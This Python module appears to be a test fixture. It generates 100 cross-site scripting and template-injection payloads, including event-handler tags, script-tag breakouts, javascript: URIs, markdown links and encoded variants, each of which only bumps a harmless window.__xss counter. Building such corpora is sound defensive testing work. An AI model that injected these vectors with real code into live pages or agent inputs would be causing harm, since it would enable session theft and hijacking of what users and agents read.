"""A hundred ways to smuggle a script into what agents read."""

from __future__ import annotations

_TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "marquee",
    "math",
    "link",
)
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart")
_CALL = "window.__xss=(window.__xss||0)+1"

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} src=x {event}={_CALL} autofocus open>" for tag in _TAGS for event in _EVENTS[:5]),
    f"<script>{_CALL}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_CALL}></SCRIPT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"'\"><script>{_CALL}</script>",
    f'" onmouseover="{_CALL}',
    f"' onfocus='{_CALL}' autofocus='",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    f'<a href="javascript:{_CALL}">点这里</a>',
    f"[点这里](javascript:{_CALL})",
    f'![x](x" onerror="{_CALL})',
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"#{{{_CALL}}}",
    f"<%= {_CALL} %>",
    f"{{{{_self.env.registerUndefinedFilterCallback('{_CALL}')}}}}",
    f"<style>@import 'javascript:{_CALL}';</style>",
    f'<div style="background:url(javascript:{_CALL})">',
    f"<div style=width:expression({_CALL})>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_CALL}">',
    f'<base href="javascript:{_CALL}//">',
    f'<form action="javascript:{_CALL}"><button>',
    f"<template><script>{_CALL}</script></template>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 100
